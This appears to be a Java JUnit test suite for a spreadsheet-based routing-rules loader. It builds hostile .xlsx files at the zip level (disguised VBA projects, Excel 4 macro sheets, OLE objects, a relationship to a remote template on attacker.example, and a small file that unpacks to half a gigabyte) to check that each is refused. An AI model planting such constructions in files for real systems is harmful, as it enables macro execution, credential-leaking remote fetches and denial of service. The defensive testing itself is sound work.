package com.channelrouter.tables;

import com.channelrouter.engine.RuleCompiler;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Workbooks built by hand at the zip level, as an attacker would, rather than saved by Excel: what runs or
 * reaches outside under other part names, a small file that unpacks huge or holds a million bad cells, a
 * damaged part. Each is refused as the file's problem, with the memory and time it costs bounded.
 */
class UntrustedWorkbookTests {

    private static final String ROUTING = "routing.xlsx";
    private static final byte[] OLE_HEADER = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private final Workbooks shipped = Workbooks.shipped();

    @Test
    void aVbaProjectUnderAnotherNameIsStillMacros() throws IOException {
        byte[] macros = withRelatedPart("/xl/vbaProject1.bin", "application/vnd.ms-office.vbaProject",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject", OLE_HEADER, types -> types.replace(
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"));

        assertThat(onlyProblem(macros).message()).contains("macros");
    }

    @Test
    void anExcel4MacroSheetIsMacros() throws IOException {
        byte[] macroSheet = withRelatedPart("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>".getBytes(StandardCharsets.UTF_8), t -> t);

        assertThat(onlyProblem(macroSheet).message()).contains("macros");
    }

    @ParameterizedTest
    @ValueSource(strings = {"externalLink", "oleObject"})
    void aLinkOrObjectUnderAnotherNameIsStillRefused(String kind) throws IOException {
        byte[] foreign = kind.equals("oleObject")
                ? withRelatedPart("/xl/objects/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject",
                        RELATIONSHIPS + "oleObject", OLE_HEADER, t -> t)
                : withRelatedPart("/xl/links/link1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                        RELATIONSHIPS + "externalLink", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>"
                                .getBytes(StandardCharsets.UTF_8), t -> t);

        assertThat(onlyProblem(foreign).message()).contains("links to other files or embeds objects");
    }

    @Test
    void aRelationshipToAFileOutsideTheWorkbookIsRefused() throws IOException {
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        String rels = text(parts.get("xl/_rels/workbook.xml.rels")).replace("</Relationships>", "<Relationship Id=\"rId98\" Type=\""
                + RELATIONSHIPS + "attachedTemplate\" Target=\"file://///attacker.example/share/template.xltm\" TargetMode=\"External\"/></Relationships>");
        parts.put("xl/_rels/workbook.xml.rels", rels.getBytes(StandardCharsets.UTF_8));

        assertThat(onlyProblem(zip(parts)).message()).contains("links to other files or embeds objects");
    }

    @Test
    void aDataConnectionIsRefusedAndAHyperlinkInStrictOpenXmlIsNot() throws IOException {
        byte[] connection = withRelatedPart("/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
                RELATIONSHIPS + "connections", "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>"
                        .getBytes(StandardCharsets.UTF_8), t -> t);
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        parts.put("xl/_rels/workbook.xml.rels", text(parts.get("xl/_rels/workbook.xml.rels")).replace("</Relationships>",
                "<Relationship Id=\"rId97\" Type=\"http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink\" "
                        + "Target=\"https://intranet.example/policy\" TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8));

        assertThat(onlyProblem(connection).message()).contains("links to other files or embeds objects");
        assertThat(new DecisionTableLoader(new RuleCompiler()).load(shipped.replaceContent(ROUTING, zip(parts)).source()).problems()).isEmpty();
    }

    /** 23 parts of 19 MB that compress to almost nothing: under the 5 MB upload limit, half a gigabyte unpacked. */
    @Test
    void aSmallFileThatUnpacksHugeIsRefusedBeforeItIsUnpacked() throws IOException {
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        byte[] junk = new byte[19 * 1024 * 1024];
        Random random = new Random(7);
        for (int i = 0; i < junk.length; i += 1024) {
            junk[i] = (byte) random.nextInt(256);
        }
        for (int n = 0; n < 23; n++) {
            parts.put("junk/blob" + n + ".bin", junk);
        }
        byte[] content = zip(parts);
        assertThat(content.length).isLessThan(WorkbookReader.MAX_WORKBOOK_BYTES);

        assertThat(onlyProblem(content).message()).contains("unpacks to more than");
    }

    /** A sheet of a million one-digit cells beyond the columns read (under 1 MB): 500 problems listed, then one saying so. */
    @Test
    void aMillionBadCellsAreListedAsFiveHundredAndTheReadStops() throws IOException {
        TableProblems problems = new TableProblems();

        WorkbookReader.read(new WorkbookFile(ROUTING, withCellsBeyondTheColumnsRead(1_000_000)), problems);

        List<TableProblem> listed = problems.errors();
        assertThat(listed).hasSize(TableProblems.MAX_LISTED + 1);
        assertThat(listed.get(0).message()).contains("Only the first " + WorkbookReader.MAX_COLUMNS + " columns are read");
        assertThat(listed.get(TableProblems.MAX_LISTED).message()).contains("more problems than the " + TableProblems.MAX_LISTED + " listed");
        assertThat(listed.get(TableProblems.MAX_LISTED).messageZh()).startsWith("问题").contains("仅列出前");
    }

    @Test
    void aDamagedPartIsTheFilesProblemNotAFailureOfTheService() throws IOException {
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        String sheet = parts.keySet().stream().filter(name -> name.startsWith("xl/worksheets/sheet")).findFirst().orElseThrow();
        parts.put(sheet, text(parts.get(sheet)).replaceFirst("(<c [^>]*t=\"s\"[^>]*>)<v>\\d+</v>", "$1<v>-1</v>").getBytes(StandardCharsets.UTF_8));

        assertThat(onlyProblem(zip(parts)).message()).contains("not an .xlsx workbook the service can read");
    }

    /** What decides must be what the workbook's reviewers can see in Excel: a hidden table sheet is refused. */
    @ParameterizedTest
    @EnumSource(value = SheetVisibility.class, names = {"HIDDEN", "VERY_HIDDEN"})
    void aHiddenTableSheetIsRefusedAndAHiddenSheetOfOurOwnIsNot(SheetVisibility hidden) {
        Workbooks hiddenTable = shipped.edit(ROUTING, workbook -> {
            workbook.setActiveSheet(1);
            workbook.setSelectedTab(1);
            workbook.setSheetVisibility(workbook.getSheetIndex("Routing LEAD"), hidden);
        });
        Workbooks hiddenNotes = shipped.edit(ROUTING, workbook -> {
            workbook.createSheet("Lists").createRow(0).createCell(0).setCellValue("a drop-down's values");
            workbook.setSheetVisibility(workbook.getSheetIndex("Lists"), hidden);
        });

        TableLoadResult refused = new DecisionTableLoader(new RuleCompiler()).load(hiddenTable.source());
        TableLoadResult loaded = new DecisionTableLoader(new RuleCompiler()).load(hiddenNotes.source());

        assertThat(refused.tables()).isNull();
        assertThat(refused.problems()).singleElement().satisfies(p -> {
            assertThat(p.sheet()).isEqualTo("Routing LEAD");
            assertThat(p.message()).contains("hidden in Excel");
        });
        assertThat(loaded.problems()).isEmpty();
        assertThat(loaded.warnings()).anySatisfy(w -> assertThat(w.sheet()).isEqualTo("Lists"));
    }

    /** What a reviewer sees in Excel must be the value that decides: a number format may not show other text. */
    @ParameterizedTest(name = "{0} as {1}")
    @CsvSource(delimiter = '|', value = {
            "routing.xlsx | Routing LEAD | B5 | 1  | '\"no\";\"no\";\"no\"' | shows \"no\" instead",
            "sla.xlsx     | SLA          | F4 | 60 | ';;;'                        | shows nothing instead",
            "sla.xlsx     | SLA          | F4 | 0  | '0;0;\"yes\"'             | shows \"yes\" instead",
            "sla.xlsx     | SLA          | F4 | 4  | '0\"小时\"'                 | shows \"4小时\" instead",
            "sla.xlsx     | SLA          | G4 | 48 | '0\" h\"'                  | shows \"48 h\" instead",
            "sla.xlsx     | SLA          | F4 | 60 | '0\" min\"'                | shows \"60 min\" instead",
            "sla.xlsx     | SLA          | F4 | 60 | '0%'                       | shows \"6000%\" instead"})
    void aNumberFormattedToShowSomethingElseIsRefused(String file, String sheet, String address, double number, String format,
                                                       String shown) {
        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(withNumber(file, sheet, address, number, format).source(),
                Set.of(file));

        assertThat(result.tables()).isNull();
        assertThat(result.problems()).anySatisfy(p -> {
            assertThat(p.sheet()).isEqualTo(sheet);
            assertThat(p.cell()).isEqualTo(address);
            assertThat(p.message()).contains("holds the number " + (long) number).contains(shown);
            assertThat(p.messageZh()).contains("数字格式");
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"#,##0", "0.0", "[Blue]0;[Red]-0", "0.00E+00", "000"})
    void numberFormatsThatShowTheNumberAreRead(String format) {
        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(withNumber("sla.xlsx", "SLA", "F4", 60, format).source());

        assertThat(result.problems()).isEmpty();
    }

    /**
     * Excel shows a merged range's first value in all its cells, but the others hold nothing: "no" merged over
     * two rules' rows made the second one's tag blank, "any". Merged titles above the table are no one's concern.
     */
    @Test
    void cellsMergedInTheTableAreRefusedAndMergedTitlesAreNot() {
        Workbooks merged = shipped.edit(ROUTING, workbook -> {
            Sheet lead = workbook.getSheet("Routing LEAD");
            lead.addMergedRegion(CellRangeAddress.valueOf("A1:H1"));
            lead.getRow(5).removeCell(lead.getRow(5).getCell(1)); // as Excel does: only the first cell keeps its value
            lead.addMergedRegion(CellRangeAddress.valueOf("B5:B6"));
        });

        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(merged.source(), Set.of(ROUTING));

        assertThat(result.tables()).isNull();
        assertThat(result.problems()).singleElement().satisfies(p -> {
            assertThat(p.sheet()).isEqualTo("Routing LEAD");
            assertThat(p.cell()).isEqualTo("B5");
            assertThat(p.column()).isEqualTo("Account-manager tag");
            assertThat(p.value()).isEqualTo("B5:B6");
            assertThat(p.message()).contains("merged").contains("\"any\"").contains("Unmerge");
            assertThat(p.messageZh()).contains("已合并").contains("取消合并");
        });
    }

    /**
     * Merged cells and units in number formats are refused in uploads since these rules came; a version published
     * before them must still serve (at start, on rollback, on another instance): there they are warnings. Notes
     * merged over rows decide nothing, and are nobody's concern.
     */
    @Test
    void aVersionPublishedBeforeTheRulesOnMergedCellsAndUnitsStillServesWithWarnings() {
        Workbooks older = shipped.edit(ROUTING, workbook -> {
            Sheet lead = workbook.getSheet("Routing LEAD");
            lead.getRow(5).removeCell(lead.getRow(5).getCell(1));
            lead.addMergedRegion(CellRangeAddress.valueOf("B5:B6"));
            lead.addMergedRegion(CellRangeAddress.valueOf("O7:O8"));
        });
        older = older.replaceContent("sla.xlsx", withNumber("sla.xlsx", "SLA", "F4", 60, "0\" min\"").bytes("sla.xlsx"));

        TableLoadResult served = new DecisionTableLoader(new RuleCompiler()).load(older.source());

        assertThat(served.problems()).isEmpty();
        assertThat(served.tables()).isNotNull();
        assertThat(served.warnings()).anySatisfy(w -> assertThat(w.cell()).isEqualTo("B5"))
                .anySatisfy(w -> assertThat(w.cell()).isEqualTo("F4"))
                .noneSatisfy(w -> assertThat(w.cell()).isEqualTo("O7"));
    }

    /** Hidden rows and columns still decide (the owners' guide says so), unseen by a reviewer: a warning each. */
    @Test
    void hiddenRowsAndColumnsOfTheTableAreWarnedAboutAndStillDecide() {
        Workbooks hidden = shipped.edit(ROUTING, workbook -> {
            Sheet lead = workbook.getSheet("Routing LEAD");
            lead.getRow(0).setZeroHeight(true); // a title line
            lead.getRow(4).setZeroHeight(true); // L2
            lead.setColumnHidden(7, true); // H, Source channel
        });

        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(hidden.source());

        assertThat(result.problems()).isEmpty();
        assertThat(result.tables()).isNotNull();
        assertThat(result.warnings()).filteredOn(w -> "Routing LEAD".equals(w.sheet())).satisfiesExactlyInAnyOrder(
                rows -> assertThat(rows.message()).startsWith("Row 5 is hidden in Excel but still decides"),
                column -> {
                    assertThat(column.cell()).isEqualTo("H3");
                    assertThat(column.column()).isEqualTo("Source channel");
                    assertThat(column.messageZh()).contains("来源渠道").contains("隐藏");
                });
    }

    /** A no-break space (pasted from a web page) looks like a space, and is read as one. */
    @Test
    void aNoBreakSpaceAfterACodeIsReadAsASpace() {
        TableLoadResult result = new DecisionTableLoader(new RuleCompiler())
                .load(shipped.setText(ROUTING, "Routing LEAD", "I4", "ACCOUNT_MANAGER\u00a0").source());

        assertThat(result.problems()).isEmpty();
    }

    /** A time refused is reported once, not compared as the stand-in the reading goes on with. */
    @Test
    void aRefusedTimeIsNotAlsoComparedWithTheOther() {
        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(shipped.setText("sla.xlsx", "SLA", "G4", "2,880").source());

        assertThat(result.problems()).singleElement().satisfies(p -> assertThat(p.cell()).isEqualTo("G4"));
        assertThat(result.warnings()).noneSatisfy(w -> assertThat(w.message()).contains("shorter"));
    }

    private Workbooks withNumber(String file, String sheet, String address, double number, String format) {
        return shipped.edit(file, workbook -> {
            CellReference at = new CellReference(address);
            Cell cell = workbook.getSheet(sheet).getRow(at.getRow()).getCell(at.getCol(), Row.MissingCellPolicy.CREATE_NULL_AS_BLANK);
            CellStyle style = workbook.createCellStyle();
            style.setDataFormat(workbook.createDataFormat().getFormat(format));
            cell.setCellValue(number);
            cell.setCellStyle(style);
        });
    }

    private TableProblem onlyProblem(byte[] routing) {
        TableLoadResult result = new DecisionTableLoader(new RuleCompiler()).load(shipped.replaceContent(ROUTING, routing).source());
        assertThat(result.tables()).isNull();
        return assertThat(result.problems()).filteredOn(p -> ROUTING.equals(p.workbook())).singleElement().actual();
    }

    /** The shipped routing workbook with one more part, related to the workbook, and its content type declared. */
    private byte[] withRelatedPart(String name, String contentType, String relationshipType, byte[] data, UnaryOperator<String> types)
            throws IOException {
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        parts.put(name.substring(1), data);
        String declared = text(parts.get("[Content_Types].xml"))
                .replace("</Types>", "<Override PartName=\"" + name + "\" ContentType=\"" + contentType + "\"/></Types>");
        parts.put("[Content_Types].xml", types.apply(declared).getBytes(StandardCharsets.UTF_8));
        String rels = text(parts.get("xl/_rels/workbook.xml.rels"))
                .replace("</Relationships>", "<Relationship Id=\"rId99\" Target=\"" + name + "\" Type=\"" + relationshipType + "\"/></Relationships>");
        parts.put("xl/_rels/workbook.xml.rels", rels.getBytes(StandardCharsets.UTF_8));
        return zip(parts);
    }

    /** The shipped routing workbook and a sheet "Junk" of {@code cells} random digits, 16,000 to a row, most beyond column 60. */
    private byte[] withCellsBeyondTheColumnsRead(int cells) throws IOException {
        Map<String, byte[]> parts = unzip(shipped.bytes(ROUTING));
        StringBuilder sheet = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
        Random digits = new Random(1); // random, so that it compresses within POI's zip-bomb ratio
        for (int i = 0; i < cells; i++) {
            if (i % 16_000 == 0) {
                sheet.append(i == 0 ? "" : "</row>").append("<row r=\"").append(i / 16_000 + 1).append("\">");
            }
            sheet.append("<c><v>").append(digits.nextInt(10)).append("</v></c>");
        }
        parts.put("xl/worksheets/junk.xml", sheet.append("</row></sheetData></worksheet>").toString().getBytes(StandardCharsets.UTF_8));
        parts.put("[Content_Types].xml", text(parts.get("[Content_Types].xml")).replace("</Types>", "<Override PartName=\"/xl/worksheets/junk.xml\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>").getBytes(StandardCharsets.UTF_8));
        parts.put("xl/_rels/workbook.xml.rels", text(parts.get("xl/_rels/workbook.xml.rels")).replace("</Relationships>",
                "<Relationship Id=\"rJunk\" Target=\"worksheets/junk.xml\" Type=\"" + RELATIONSHIPS + "worksheet\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8));
        parts.put("xl/workbook.xml", text(parts.get("xl/workbook.xml")).replace("</sheets>",
                "<sheet name=\"Junk\" r:id=\"rJunk\" sheetId=\"99\"/></sheets>").getBytes(StandardCharsets.UTF_8));
        return zip(parts);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private static Map<String, byte[]> unzip(byte[] zip) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        }
        return parts;
    }

    private static byte[] zip(Map<String, byte[]> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue());
                out.closeEntry();
            }
        }
        return bytes.toByteArray();
    }
}
